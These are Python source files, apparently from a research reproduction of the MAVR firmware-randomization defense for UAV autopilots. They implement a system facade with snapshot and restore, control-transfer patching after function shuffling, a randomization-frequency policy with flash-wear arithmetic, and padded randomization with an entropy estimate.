            # host phase: preprocess and "upload" to the external flash
            with self.telemetry.span("mavr.preprocess", app=image.name):
                hex_text = self.defense.preprocess(image)
        self.autopilot = Autopilot(image, sensor_state, engine=engine)
        self.master = MasterProcessor(
            self.autopilot,
            policy=policy,
            link=link,
            watchdog=watchdog,
            rng=random.Random(seed),
            telemetry=self.telemetry,
            backend=self.defense,
        )
        with self.telemetry.span("mavr.deploy", app=image.name):
            if deploy_blob is not None:
                # artifact-cache fast path: the blob is byte-identical to
                # what preprocess + deploy produce for this configuration
                self.master.deploy_blob(deploy_blob)
            else:
                self.master.deploy(hex_text)
        self.protected_flash = ReadoutProtectedFlash(
            self.autopilot.cpu.flash, locked=True
        )
        self.cost = CostModel()

    # -- lifecycle -----------------------------------------------------------

    def boot(self) -> float:
        """Power-on: randomize per policy, program, release reset."""
        return self.master.boot()

    def run(self, ticks: int, watch_every: int = 10) -> int:
        """Fly for ``ticks`` control periods under master supervision."""
        return self.master.run(ticks, watch_every)

    @property
    def running_image(self) -> FirmwareImage:
        image = self.master.current_image
        if image is None:
            raise RuntimeError("system has not booted yet")
        return image

    def snapshot(self) -> dict:
        """Full telemetry snapshot (metrics + spans + events)."""
        return self.telemetry.snapshot()

    # -- warm board fork ------------------------------------------------------

    def capture_snapshot(self) -> dict:
        """Freeze the booted board as plain picklable data.

        Captured immediately after the first :meth:`boot` — before any
        tick runs — the snapshot holds everything a fresh process needs
        to reconstruct this exact post-boot state without paying the
        preprocess pass, the external-flash round-trip, or the simulated
        ISP programming: the running (randomized) image, the parsed
        original with its relocation index, the chip blob, the master's
        RNG stream position, and every monotonic counter the defense
        accounting exposes.  :meth:`from_snapshot` is the inverse; the
        warm-vs-cold byte-identity of scenario records is pinned by test.
        """
        master = self.master
        if master.current_image is None:
            raise RuntimeError("cannot snapshot a system that has not booted")
        isp = master.isp
        return {
            "version": SNAPSHOT_VERSION,
            "image": master.current_image,
            "original": master._original,
            "flash_blob": master.external_flash.read_all(),
            "rng_state": master.rng.getstate(),
            "clock_ms": master.clock.now_ms,
            "last_permutation": master.last_permutation,
            "master_stats": master.stats.as_dict(),
            "startup_overheads_ms": list(master.stats.startup_overheads_ms),
            "isp_stats": isp.stats.as_dict(),
            "isp_digests": (
                list(isp._last_digests) if isp._last_digests is not None else None
            ),
            "isp_image_len": isp._last_image_len,
            "defense_stats": self.defense.stats.as_dict(),
        }

    @classmethod
    def from_snapshot(
        cls,
        snapshot: dict,
        base_image: FirmwareImage,
        policy: RandomizationPolicy = RandomizationPolicy(),
        link: ProgrammingLink = PROTOTYPE_LINK,
        watchdog: WatchdogConfig = WatchdogConfig(),
        sensor_state: Optional[SensorState] = None,
        telemetry: Optional[Telemetry] = None,
        engine: str = DEFAULT_ENGINE,
        defense: Union[str, DefenseBackend] = "mavr",
    ) -> "MavrSystem":
        """Rebuild a booted system from :meth:`capture_snapshot` data.

        The reconstruction is behavior-identical to the cold path from
        the first post-boot instruction on: the application flash holds
        the same randomized bytes (loaded directly instead of streamed
        page by page), the master's RNG resumes mid-stream so later
        re-randomizations draw the same layouts, the ISP's page digests
        describe the flash contents so differential reflash stays armed,
        and every stats counter matches the cold boot's accounting.
        Host-visible differences are confined to wall-clock time and the
        flash generation counter's absolute value (kept self-consistent
        with the ISP's record, which is all the differential path needs).
        """
        if snapshot.get("version") != SNAPSHOT_VERSION:
            raise RuntimeError(
                f"board snapshot version {snapshot.get('version')!r} does not "
                f"match {SNAPSHOT_VERSION}"
            )
        system = cls.__new__(cls)
        system.telemetry = telemetry if telemetry is not None else Telemetry()
        system.defense = (
            create_backend(defense) if isinstance(defense, str) else defense
        )
        randomized = snapshot["image"]
        system.autopilot = Autopilot(randomized, sensor_state, engine=engine)
        # host-side SRAM map: randomization never moves data, and the
        # snapshot image's own symbols may be the nameless from-flash
        # reconstruction — exactly the cold path's situation, where the
        # autopilot was constructed around the named build
        system.autopilot.debug_symbols = base_image.symbols
        master = MasterProcessor(
            system.autopilot,
            policy=policy,
            link=link,
            watchdog=watchdog,
            rng=random.Random(),
            telemetry=system.telemetry,
            backend=system.defense,
        )
        system.master = master
        master.rng.setstate(snapshot["rng_state"])
        master.external_flash.store(snapshot["flash_blob"])
        master._original = snapshot["original"]
        master.current_image = randomized
        master.last_permutation = snapshot["last_permutation"]
        master.clock.advance_ms(snapshot["clock_ms"])
        for name, value in snapshot["master_stats"].items():
            setattr(master.stats, name, value)
        master.stats.startup_overheads_ms = list(snapshot["startup_overheads_ms"])
        isp = master.isp
        for name, value in snapshot["isp_stats"].items():
            if name == "last_flash_generation":
                continue  # tied to the live chip below
            setattr(isp.stats, name, value)
        flash = system.autopilot.cpu.flash
        isp._last_flash = flash
        isp._last_digests = (
            list(snapshot["isp_digests"])
            if snapshot["isp_digests"] is not None else None
        )
        isp._last_image_len = snapshot["isp_image_len"]
        # the absolute generation value is process-local; what matters is
        # that the ISP's record matches the chip it will diff against
        isp.stats.last_flash_generation = flash.generation
        for name, value in snapshot["defense_stats"].items():
            setattr(system.defense.stats, name, value)
        system.protected_flash = ReadoutProtectedFlash(flash, locked=True)
        system.cost = CostModel()
        return system

    def report(self) -> MavrReport:
        stats = self.master.stats
        return MavrReport(
            boots=stats.boots,
            randomizations=stats.randomizations,
            attacks_detected=stats.attacks_detected,
            flash_cycles_used=self.master.isp.stats.programming_cycles,
            flash_cycles_remaining=self.master.isp.remaining_cycles,
            last_startup_overhead_ms=stats.last_startup_overhead_ms,
            cost=self.cost.report(),
            last_pages_written=stats.last_pages_written,
            last_pages_skipped=stats.last_pages_skipped,
            last_bytes_on_wire=stats.last_bytes_on_wire,
            defense=self.defense.name,
            defense_stats=self.defense.stats.as_dict(),
        )
