"""MAVR system facade: the full hardware + software defense in one object.

Wires together everything the paper's Fig. 7 shows: the application
processor (inside :class:`~repro.uav.Autopilot`), the master processor
with its external flash and ISP link, the readout-protection fuse, and the
host-side preprocessing entry point.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Optional, Union

from ..avr.engine import DEFAULT_ENGINE
from ..binfmt.image import FirmwareImage
from ..hw.board import CostModel
from ..hw.serialbus import PROTOTYPE_LINK, ProgrammingLink
from ..telemetry import Telemetry
from ..uav.autopilot import Autopilot
from ..uav.sensors import SensorState
from .defenses import DefenseBackend, create_backend
from .fuses import ReadoutProtectedFlash
from .master import MasterProcessor
from .policy import RandomizationPolicy
from .watchdog import WatchdogConfig


@dataclass
class MavrReport:
    """Summary of a protected system's state."""

    boots: int
    randomizations: int
    attacks_detected: int
    flash_cycles_used: int
    flash_cycles_remaining: int
    last_startup_overhead_ms: float
    cost: dict
    # differential-reflash pricing of the most recent programming pass
    last_pages_written: int = 0
    last_pages_skipped: int = 0
    last_bytes_on_wire: int = 0
    # which defense backend ran, and its own accounting
    defense: str = "mavr"
    defense_stats: dict = field(default_factory=dict)


class MavrSystem:
    """A UAV protected by a pluggable defense backend (MAVR by default).

    ``defense`` selects the mitigation scheme — a name from
    :data:`~repro.core.defenses.DEFENSE_BACKENDS` or a ready-made
    :class:`~repro.core.defenses.DefenseBackend` instance.  The board
    wiring (master processor, external flash, ISP link, readout fuse) is
    identical for every backend; only the prepare/diversify/recover
    hooks differ.
    """

    def __init__(
        self,
        image: FirmwareImage,
        policy: RandomizationPolicy = RandomizationPolicy(),
        link: ProgrammingLink = PROTOTYPE_LINK,
        watchdog: WatchdogConfig = WatchdogConfig(),
        seed: Optional[int] = None,
        sensor_state: Optional[SensorState] = None,
        telemetry: Optional[Telemetry] = None,
        engine: str = DEFAULT_ENGINE,
        defense: Union[str, DefenseBackend] = "mavr",
    ) -> None:
        self.telemetry = telemetry if telemetry is not None else Telemetry()
        self.defense = (
            create_backend(defense) if isinstance(defense, str) else defense
        )
        # host phase: preprocess and "upload" to the external flash
        with self.telemetry.span("mavr.preprocess", app=image.name):
            hex_text = self.defense.preprocess(image)
        self.autopilot = Autopilot(image, sensor_state, engine=engine)
        self.master = MasterProcessor(
            self.autopilot,
            policy=policy,
            link=link,
            watchdog=watchdog,
            rng=random.Random(seed),
            telemetry=self.telemetry,
            backend=self.defense,
        )
        with self.telemetry.span("mavr.deploy", app=image.name):
            self.master.deploy(hex_text)
        self.protected_flash = ReadoutProtectedFlash(
            self.autopilot.cpu.flash, locked=True
        )
        self.cost = CostModel()

    # -- lifecycle -----------------------------------------------------------

    def boot(self) -> float:
        """Power-on: randomize per policy, program, release reset."""
        return self.master.boot()

    def run(self, ticks: int, watch_every: int = 10) -> int:
        """Fly for ``ticks`` control periods under master supervision."""
        return self.master.run(ticks, watch_every)

    @property
    def running_image(self) -> FirmwareImage:
        image = self.master.current_image
        if image is None:
            raise RuntimeError("system has not booted yet")
        return image

    def snapshot(self) -> dict:
        """Full telemetry snapshot (metrics + spans + events)."""
        return self.telemetry.snapshot()

    def report(self) -> MavrReport:
        stats = self.master.stats
        return MavrReport(
            boots=stats.boots,
            randomizations=stats.randomizations,
            attacks_detected=stats.attacks_detected,
            flash_cycles_used=self.master.isp.stats.programming_cycles,
            flash_cycles_remaining=self.master.isp.remaining_cycles,
            last_startup_overhead_ms=stats.last_startup_overhead_ms,
            cost=self.cost.report(),
            last_pages_written=stats.last_pages_written,
            last_pages_skipped=stats.last_pages_skipped,
            last_bytes_on_wire=stats.last_bytes_on_wire,
            defense=self.defense.name,
            defense_stats=self.defense.stats.as_dict(),
        )
