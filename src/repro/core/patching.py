"""Jump/call/pointer patching (paper §V-B3 / §VI-B3).

After the shuffle, every control-transfer target that referred to the old
layout must be fixed:

* absolute ``call``/``jmp`` — translate the target through the block map;
  targets that are not a function entry (switch-case trampolines, jumps
  into block interiors) are resolved with the binary search over old block
  addresses and an offset adjustment, exactly as the paper describes;
* relative ``rcall``/``rjmp``/branches — unchanged when target and
  instruction move together (same block); recomputed when they cross
  blocks, with a range check (this is why MAVR requires ``--no-relax``:
  a compiler-shortened cross-function call may not reach after a move);
* function pointers in the data section (vtables, call-routing tables) —
  their stored word addresses are rewritten in place.

The pass streams the binary a block at a time, mirroring the master
processor's "a few bytes at a time" random-access read of the external
flash.
"""

from __future__ import annotations

import random
from typing import Optional, Tuple

from ..avr.decoder import decode_at
from ..avr.encoder import encode_bytes
from ..avr.insn import Instruction, Mnemonic
from ..binfmt.image import FirmwareImage
from ..binfmt.relocindex import RelocationIndex
from ..errors import DecodeError, PatchError
from .randomize import Permutation, generate_permutation, shuffled_symbol_table

M = Mnemonic

_RELATIVE = {M.RCALL, M.RJMP}
_BRANCHES = {M.BRBS, M.BRBC}
_ABSOLUTE = {M.CALL, M.JMP}


def randomize_image(
    image: FirmwareImage,
    rng: Optional[random.Random] = None,
    use_index: bool = True,
) -> Tuple[FirmwareImage, Permutation]:
    """Shuffle + patch: the master processor's whole software job.

    When the image carries a valid relocation index (built once by the
    preprocessor) the patch step is the decode-free indexed fixup;
    otherwise it falls back to the legacy streaming patcher.  Both paths
    produce byte-identical output for the same permutation.
    """
    permutation = generate_permutation(image, rng)
    index = image.reloc_index if use_index else None
    if index is not None and index.matches(image):
        new_code = patch_image_indexed(image, permutation, index)
    else:
        new_code = patch_image(image, permutation)
    new_symbols = shuffled_symbol_table(image, permutation)
    randomized = image.with_code(
        new_code, symbols=new_symbols, toolchain_tag=image.toolchain_tag
    )
    randomized.validate()
    return randomized, permutation


def patch_image(image: FirmwareImage, permutation: Permutation) -> bytes:
    """Produce the randomized code bytes for ``permutation``."""
    new_code = bytearray(image.code)

    # move every block to its new home
    for move in permutation.moves:
        block = image.code[move.old_address : move.old_address + move.size]
        new_code[move.new_address : move.new_address + move.size] = block

    # patch the fixed region (vectors + __init) in place; when the flash
    # data section sits below .text, stop the sweep before it — data bytes
    # are not instructions
    fixed_end = min(image.text_start, image.data_start)
    _patch_segment(image, permutation, new_code, 0, 0, fixed_end)
    # patch every moved block at its new location
    for move in permutation.moves:
        _patch_segment(
            image, permutation, new_code,
            move.old_address, move.new_address, move.size,
        )

    _patch_funcptrs(image, permutation, new_code)
    return bytes(new_code)


def patch_image_indexed(
    image: FirmwareImage,
    permutation: Permutation,
    index: Optional[RelocationIndex] = None,
) -> bytes:
    """Decode-free fixup pass: O(moves + patch-sites) instead of a full
    instruction-stream decode.

    The index was built from ``image``'s exact bytes (the preprocessor's
    one-time sweep); applying it is block copies plus direct operand
    rewrites at the recorded sites.  Output is byte-identical to
    :func:`patch_image` for the same permutation — the differential test
    suite pins this down across seeds and manifests.
    """
    index = index if index is not None else image.reloc_index
    if index is None:
        raise PatchError("image carries no relocation index")
    if not index.matches(image):
        raise PatchError(
            "relocation index is stale (code bytes or text bounds changed)"
        )
    new_code = bytearray(image.code)
    for move in permutation.moves:
        block = image.code[move.old_address : move.old_address + move.size]
        new_code[move.new_address : move.new_address + move.size] = block

    fixed_end = min(image.text_start, image.data_start)
    remap = permutation.new_address_of

    def site_position(offset: int) -> int:
        # the fixed region never moves; everything else sits in a block
        if offset < fixed_end:
            return offset
        moved = remap(offset)
        if moved is None:
            raise PatchError(
                f"indexed site 0x{offset:05x} is outside every function block"
            )
        return moved

    for site in index.absolute_sites:
        new_target = remap(site.target)
        if new_target is None:
            raise PatchError(
                f"{site.mnemonic.value} at 0x{site.offset:05x} targets "
                f"0x{site.target:05x}, which is inside .text but outside "
                "every function block"
            )
        new_offset = site_position(site.offset)
        patched = Instruction(site.mnemonic, k=new_target // 2)
        new_code[new_offset : new_offset + 4] = encode_bytes(patched)

    for site in index.relative_sites:
        new_offset = site_position(site.offset)
        if image.text_start <= site.target < image.text_end:
            new_target = remap(site.target)
            if new_target is None:
                raise PatchError(
                    f"{site.mnemonic.value} at 0x{site.offset:05x} escapes "
                    "its block into unmapped .text"
                )
        else:
            new_target = site.target  # fixed region does not move
        displacement = (new_target - (new_offset + 2)) // 2
        if not -2048 <= displacement <= 2047:
            raise PatchError(
                f"relaxed {site.mnemonic.value} at 0x{site.offset:05x} cannot "
                f"reach 0x{new_target:05x} after randomization "
                "(image must be built with --no-relax)"
            )
        patched = Instruction(site.mnemonic, k=displacement)
        new_code[new_offset : new_offset + 2] = encode_bytes(patched)

    _patch_funcptrs(image, permutation, new_code)
    return bytes(new_code)


def _patch_funcptrs(
    image: FirmwareImage, permutation: Permutation, new_code: bytearray
) -> None:
    """Rewrite function pointers embedded in the data section.

    Slots that point into the fixed region (trampoline stubs) stay as
    they are — the stubs' jmps were already retargeted by the fixed-region
    sweep.  Shared by the streaming and indexed patchers so their pointer
    handling cannot drift apart.
    """
    fixed_limit = min(image.text_start, image.data_start)
    for location in image.funcptr_locations:
        old_word = image.code[location] | (image.code[location + 1] << 8)
        old_target = old_word * 2
        if old_target < fixed_limit:
            continue  # trampoline stub: layout-stable by design
        new_byte = permutation.new_address_of(old_target)
        if new_byte is None:
            raise PatchError(
                f"pointer slot 0x{location:05x} targets 0x{old_target:05x} "
                "outside every function block"
            )
        new_word = new_byte // 2
        if new_word > 0xFFFF:
            raise PatchError(
                f"pointer slot 0x{location:05x} would need a 17-bit word "
                f"address (0x{new_word:05x}); route it through a trampoline"
            )
        new_code[location] = new_word & 0xFF
        new_code[location + 1] = (new_word >> 8) & 0xFF


def _patch_segment(
    image: FirmwareImage,
    permutation: Permutation,
    new_code: bytearray,
    old_start: int,
    new_start: int,
    length: int,
) -> None:
    """Stream one executable segment, retargeting control transfers."""
    offset = old_start
    end = old_start + length
    while offset + 1 < end:
        try:
            insn, size = decode_at(image.code, offset)
        except DecodeError as exc:
            raise PatchError(
                f"undecodable word at 0x{offset:05x} inside an executable "
                "segment; cannot patch"
            ) from exc
        new_offset = new_start + (offset - old_start)
        mnemonic = insn.mnemonic

        if mnemonic in _ABSOLUTE:
            _patch_absolute(image, permutation, new_code, insn, offset, new_offset)
        elif mnemonic in _RELATIVE:
            _patch_relative(
                image, permutation, new_code, insn,
                offset, new_offset, old_start, end,
            )
        elif mnemonic in _BRANCHES:
            _check_branch(insn, offset, old_start, end)
        offset += size


def _patch_absolute(
    image: FirmwareImage,
    permutation: Permutation,
    new_code: bytearray,
    insn: Instruction,
    old_offset: int,
    new_offset: int,
) -> None:
    old_target = insn.k * 2
    if not image.text_start <= old_target < image.text_end:
        return  # fixed-region target (vectors, bootloader): unchanged
    new_target = permutation.new_address_of(old_target)
    if new_target is None:
        raise PatchError(
            f"{insn.mnemonic.value} at 0x{old_offset:05x} targets "
            f"0x{old_target:05x}, which is inside .text but outside every "
            "function block"
        )
    patched = Instruction(insn.mnemonic, k=new_target // 2)
    new_code[new_offset : new_offset + 4] = encode_bytes(patched)


def _patch_relative(
    image: FirmwareImage,
    permutation: Permutation,
    new_code: bytearray,
    insn: Instruction,
    old_offset: int,
    new_offset: int,
    segment_start: int,
    segment_end: int,
) -> None:
    old_target = old_offset + 2 + insn.k * 2
    if segment_start <= old_target < segment_end:
        return  # moves with the block; displacement still correct
    # a cross-block relative transfer: retarget from the new position
    if image.text_start <= old_target < image.text_end:
        new_target = permutation.new_address_of(old_target)
        if new_target is None:
            raise PatchError(
                f"{insn.mnemonic.value} at 0x{old_offset:05x} escapes its "
                "block into unmapped .text"
            )
    else:
        new_target = old_target  # fixed region does not move
    displacement = (new_target - (new_offset + 2)) // 2
    if not -2048 <= displacement <= 2047:
        raise PatchError(
            f"relaxed {insn.mnemonic.value} at 0x{old_offset:05x} cannot "
            f"reach 0x{new_target:05x} after randomization "
            "(image must be built with --no-relax)"
        )
    patched = Instruction(insn.mnemonic, k=displacement)
    new_code[new_offset : new_offset + 2] = encode_bytes(patched)


def _check_branch(
    insn: Instruction, old_offset: int, segment_start: int, segment_end: int
) -> None:
    old_target = old_offset + 2 + insn.k * 2
    if not segment_start <= old_target < segment_end:
        raise PatchError(
            f"conditional branch at 0x{old_offset:05x} crosses a block "
            "boundary; cannot be retargeted within 7 bits"
        )


def verify_patched(
    original: FirmwareImage, randomized: FirmwareImage, permutation: Permutation
) -> None:
    """Structural checks tests rely on.

    * the randomized .text is a permutation of the original blocks;
    * every absolute call/jmp in the new image lands inside some function
      block or the fixed region;
    * every pointer slot targets a function entry.
    """
    for move in permutation.moves:
        old_block = original.code[move.old_address : move.old_address + move.size]
        new_block = randomized.code[move.new_address : move.new_address + move.size]
        if len(old_block) != len(new_block):
            raise PatchError(f"block {move.name} changed size")
    fixed_end = min(randomized.text_start, randomized.data_start)
    segments = [(0, fixed_end), (randomized.text_start, randomized.text_end)]
    for start, end in segments:
        _verify_segment(randomized, start, end)
    randomized.validate()


def _verify_segment(randomized: FirmwareImage, start: int, end: int) -> None:
    offset = start
    while offset + 1 < end:
        try:
            insn, size = decode_at(randomized.code, offset)
        except DecodeError as exc:
            raise PatchError(f"randomized image undecodable at 0x{offset:05x}") from exc
        if insn.mnemonic in _ABSOLUTE:
            target = insn.k * 2
            inside_fixed = target < min(
                randomized.text_start, randomized.data_start
            )
            inside_function = (
                randomized.symbols.function_containing(target) is not None
            )
            if not (inside_fixed or inside_function):
                raise PatchError(
                    f"{insn.mnemonic.value} at 0x{offset:05x} targets "
                    f"0x{target:05x}, outside every block"
                )
        offset += size
