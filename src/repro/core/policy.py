"""Randomization-frequency policy (paper §V-C).

Randomizing on every boot is the strongest defense but each randomization
reprograms the application processor, whose flash endures ~10,000 write
cycles.  The policy trades security for hardware lifetime:

* randomize every N-th normal boot (configurable),
* *always* randomize after a detected failed attack (non-negotiable — a
  failed attempt may have leaked one layout).
"""

from __future__ import annotations

from dataclasses import dataclass

from ..hw.isp import FLASH_ENDURANCE_CYCLES


@dataclass(frozen=True)
class RandomizationPolicy:
    """When the master must regenerate the layout."""

    randomize_every_boots: int = 1  # 1 = every boot (strongest)

    def __post_init__(self) -> None:
        if self.randomize_every_boots < 1:
            raise ValueError("randomize_every_boots must be >= 1")

    def should_randomize(self, boot_count: int, attack_detected: bool) -> bool:
        """Decide at boot ``boot_count`` (0-based)."""
        if attack_detected:
            return True
        if boot_count == 0:
            return True  # first boot must install a randomized image
        return boot_count % self.randomize_every_boots == 0

    # -- lifetime arithmetic (the §V-C tradeoff, used by the ablation bench)

    def flash_lifetime_boots(
        self,
        endurance: int = FLASH_ENDURANCE_CYCLES,
        wear_per_randomization: float = 1.0,
    ) -> int:
        """Boots until the endurance budget is exhausted (no attacks).

        ``wear_per_randomization`` prices one re-randomization in write
        cycles.  The classic model charges a full cycle (1.0); with the
        differential reflash the hottest page bounds the wear, so the
        per-randomization cost shrinks to the fraction of pages actually
        rewritten — see :func:`page_wear_fraction`.
        """
        if wear_per_randomization <= 0:
            raise ValueError("wear_per_randomization must be positive")
        return int(endurance / wear_per_randomization) * self.randomize_every_boots

    def flash_lifetime_days(
        self,
        boots_per_day: float,
        endurance: int = FLASH_ENDURANCE_CYCLES,
        wear_per_randomization: float = 1.0,
    ) -> float:
        """Calendar lifetime under a given boot rate."""
        if boots_per_day <= 0:
            raise ValueError("boots_per_day must be positive")
        return (
            self.flash_lifetime_boots(endurance, wear_per_randomization)
            / boots_per_day
        )


def page_wear_fraction(pages_written: int, pages_skipped: int) -> float:
    """Wear cost of one differential reflash, in full-cycle units.

    Flash endurance is physically per page; a pass that rewrites only a
    fraction of the pages ages the array by at most that fraction (the
    conservative per-pass accounting in :class:`~repro.hw.isp.
    IspProgrammer` still charges a full cycle — this is the honest price
    the ablation compares against).
    """
    total = pages_written + pages_skipped
    if total <= 0:
        return 1.0
    return pages_written / total


EVERY_BOOT = RandomizationPolicy(1)
EVERY_TENTH_BOOT = RandomizationPolicy(10)
