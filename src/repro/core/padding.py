"""Padded randomization — the §VIII-B extension the paper considered.

"One approach considered to increase MAVR's entropy was to introduce
random padding between each function."  The authors measured 6567 bits
from pure shuffling and dropped the idea; this module implements it
anyway so the trade-off can be evaluated:

* function blocks are scattered over the *whole* free flash (everything
  between ``text_start`` and the data section, plus the region above the
  data section up to the flash size) with random gaps;
* gaps are filled with erased-flash bytes (0xFF), which do not decode —
  a wild control transfer landing in a gap faults immediately instead of
  sliding;
* the data section does not move, so data references stay valid and the
  standard patcher handles all code targets through the block map.

Costs: the image grows to the extent of the scatter (more bytes to
transfer at boot — a direct Table II hit), bounded by the 256 KB flash.
"""

from __future__ import annotations

import random
from typing import List, Optional, Tuple

from ..avr.memory import FLASH_SIZE
from ..binfmt.image import FirmwareImage
from ..binfmt.symtab import Symbol, SymbolKind, SymbolTable
from ..errors import DefenseError
from .patching import patch_image
from .randomize import BlockMove, Permutation, moves_to_permutation


def generate_padded_permutation(
    image: FirmwareImage,
    rng: Optional[random.Random] = None,
    flash_size: int = FLASH_SIZE,
    alignment: int = 2,
) -> Permutation:
    """Scatter the function blocks over the free flash with random gaps.

    Blocks land, in shuffled order, into the region above the data
    section; the original ``.text`` span is left as one huge gap.  (Using
    only the high region keeps the implementation simple while maximizing
    gap entropy; there must be enough free flash above ``data_end``.)
    """
    rng = rng if rng is not None else random.Random()
    functions = image.symbols.functions()
    if not functions:
        raise DefenseError("image has no function symbols to shuffle")
    total_code = sum(symbol.size for symbol in functions)
    free_start = _align_up(max(image.data_end, image.text_end), alignment)
    free_bytes = flash_size - free_start
    slack = free_bytes - total_code
    if slack <= 0:
        raise DefenseError(
            f"not enough free flash for padded randomization: need more "
            f"than {total_code} bytes above 0x{free_start:05x}, have {free_bytes}"
        )

    order = list(functions)
    rng.shuffle(order)
    # distribute the slack into n+1 random gaps (stars and bars)
    gap_units = slack // alignment
    cuts = sorted(rng.randint(0, gap_units) for _ in range(len(order)))
    gaps = [cuts[0]] + [b - a for a, b in zip(cuts, cuts[1:])]

    moves: List[BlockMove] = []
    cursor = free_start
    for symbol, gap in zip(order, gaps):
        cursor += gap * alignment
        moves.append(BlockMove(symbol.name, symbol.address, cursor, symbol.size))
        cursor += symbol.size
    if cursor > flash_size:
        raise DefenseError("padded layout overflowed the flash (internal error)")
    return moves_to_permutation(moves)


def randomize_image_padded(
    image: FirmwareImage,
    rng: Optional[random.Random] = None,
    flash_size: int = FLASH_SIZE,
    fill: int = 0xFF,
) -> Tuple[FirmwareImage, Permutation]:
    """Produce a padded-randomized image.

    The result's ``code`` extends to the highest placed block; gaps carry
    ``fill`` (0xFF = erased flash, undecodable).  ``text_start``/
    ``text_end`` are widened to bracket the scattered blocks so gadget
    scans and patch sweeps stay meaningful.
    """
    permutation = generate_padded_permutation(image, rng, flash_size)
    new_end = max(move.new_address + move.size for move in permutation.moves)

    # grow the image: original content, erased fill above
    keep = max(image.data_end, image.text_end)
    grown = bytearray(image.code[:keep])
    grown += bytes([fill & 0xFF]) * (new_end - len(grown))
    base = image.with_code(bytes(grown))
    patched = bytearray(patch_image(base, permutation))
    # blank the old .text (it must not retain the original gadget bytes);
    # every block now lives above data_end, so this erases only leftovers
    for offset in range(image.text_start, image.text_end):
        patched[offset] = fill & 0xFF
    patched = bytes(patched)

    table = SymbolTable()
    for move in permutation.moves:
        table.add(Symbol(move.name, move.new_address, move.size, SymbolKind.FUNC))
    for symbol in image.symbols.objects():
        table.add(symbol)

    randomized = FirmwareImage(
        code=patched,
        symbols=table,
        text_start=image.text_start,
        text_end=new_end,
        data_start=image.data_start,
        data_end=image.data_end,
        entry_symbol=image.entry_symbol,
        funcptr_locations=list(image.funcptr_locations),
        name=image.name,
        toolchain_tag=image.toolchain_tag,
    )
    return randomized, permutation


def padded_entropy_bits(image: FirmwareImage, flash_size: int = FLASH_SIZE,
                        alignment: int = 2) -> float:
    """Entropy of the padded layout: shuffle bits + gap-placement bits.

    Gap placement is a composition count: C(gap_units + n, n) ways to
    split the slack across n+1 gaps, on top of the n! orderings.
    """
    import math

    functions = image.symbols.functions()
    n = len(functions)
    total_code = sum(symbol.size for symbol in functions)
    free_start = _align_up(max(image.data_end, image.text_end), alignment)
    slack_units = max((flash_size - free_start - total_code) // alignment, 0)
    shuffle_bits = math.lgamma(n + 1) / math.log(2)
    placement_bits = (
        math.lgamma(slack_units + n + 1)
        - math.lgamma(n + 1)
        - math.lgamma(slack_units + 1)
    ) / math.log(2)
    return shuffle_bits + placement_bits


def _align_up(value: int, alignment: int) -> int:
    remainder = value % alignment
    return value if remainder == 0 else value + alignment - remainder
