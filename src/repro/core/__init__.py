"""The defense layer: preprocessing, randomization, patching, the master
processor, and the pluggable backends (mavr / daedalus / ctomp) that give
it its diversify-and-recover behavior.  ``MavrSystem`` is the facade that
wires a whole protected board; ``DEFENSE_BACKENDS`` lists the schemes it
accepts."""

from .defenses import (
    DEFENSE_BACKENDS,
    CtompBackend,
    DaedalusBackend,
    DefenseBackend,
    DefenseStats,
    MavrBackend,
    create_backend,
)
from .fuses import ReadoutProtectedFlash
from .master import MasterProcessor, MasterStats
from .mavr import MavrReport, MavrSystem
from .padding import (
    generate_padded_permutation,
    padded_entropy_bits,
    randomize_image_padded,
)
from .patching import (
    patch_image,
    patch_image_indexed,
    randomize_image,
    verify_patched,
)
from .policy import (
    EVERY_BOOT,
    EVERY_TENTH_BOOT,
    RandomizationPolicy,
    page_wear_fraction,
)
from .preprocess import (
    PreprocessReport,
    check_randomizable,
    load_preprocessed,
    preprocess,
    preprocess_report,
)
from .software_only import SoftwareOnlyDefense, SoftwareOnlyStats
from .randomize import (
    BlockMove,
    Permutation,
    generate_permutation,
    layout_entropy_bits,
    permutation_count,
    shuffled_symbol_table,
)
from .splitting import (
    SplitReport,
    function_cut_offsets,
    split_image_blocks,
    split_report,
    split_symbol_table,
)
from .watchdog import WatchdogConfig, WatchdogMonitor

__all__ = [
    "DEFENSE_BACKENDS",
    "CtompBackend",
    "DaedalusBackend",
    "DefenseBackend",
    "DefenseStats",
    "MavrBackend",
    "create_backend",
    "SplitReport",
    "function_cut_offsets",
    "split_image_blocks",
    "split_report",
    "split_symbol_table",
    "generate_padded_permutation",
    "padded_entropy_bits",
    "randomize_image_padded",
    "SoftwareOnlyDefense",
    "SoftwareOnlyStats",
    "ReadoutProtectedFlash",
    "MasterProcessor",
    "MasterStats",
    "MavrReport",
    "MavrSystem",
    "patch_image",
    "patch_image_indexed",
    "randomize_image",
    "verify_patched",
    "EVERY_BOOT",
    "EVERY_TENTH_BOOT",
    "RandomizationPolicy",
    "page_wear_fraction",
    "PreprocessReport",
    "check_randomizable",
    "load_preprocessed",
    "preprocess",
    "preprocess_report",
    "BlockMove",
    "Permutation",
    "generate_permutation",
    "layout_entropy_bits",
    "permutation_count",
    "shuffled_symbol_table",
    "WatchdogConfig",
    "WatchdogMonitor",
]
