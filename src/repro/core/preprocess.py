"""MAVR preprocessing phase (paper §V-B1 / §VI-B2) — runs on the host.

Takes the compiler's output (an image with its symbol table), verifies the
build is randomizable, extracts the function list in ascending address
order, scans the data section for function pointers, and emits the
modified HEX file with the symbol information prepended — ready for upload
to the external flash with standard tools.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

from ..binfmt.funcptr import scan_function_pointers
from ..binfmt.image import FirmwareImage
from ..binfmt.relocindex import build_relocation_index
from ..errors import DefenseError


@dataclass(frozen=True)
class PreprocessReport:
    """What the host-side pass found."""

    function_count: int
    funcptr_slots: int
    text_bytes: int
    hex_bytes: int
    index_sites: int = 0
    index_bytes: int = 0


def check_randomizable(image: FirmwareImage) -> None:
    """Reject builds whose toolchain flags defeat randomization (§VI-B1).

    * relaxed (short-range) calls cannot reach a function after it moves;
    * ``-mcall-prologues`` hides code pointers in LDI pairs the patcher
      cannot see.
    """
    tag = image.toolchain_tag
    if "no-relax" not in tag:
        raise DefenseError(
            f"image '{image.name}' was linked with relaxation enabled "
            f"(tag: {tag}); rebuild with --no-relax"
        )
    if "mno-call-prologues" not in tag:
        raise DefenseError(
            f"image '{image.name}' uses -mcall-prologues (tag: {tag}); "
            "rebuild with -mno-call-prologues"
        )


def preprocess(
    image: FirmwareImage, verify_pointers: bool = True, build_index: bool = True
) -> str:
    """Produce the preprocessed HEX text for the external flash.

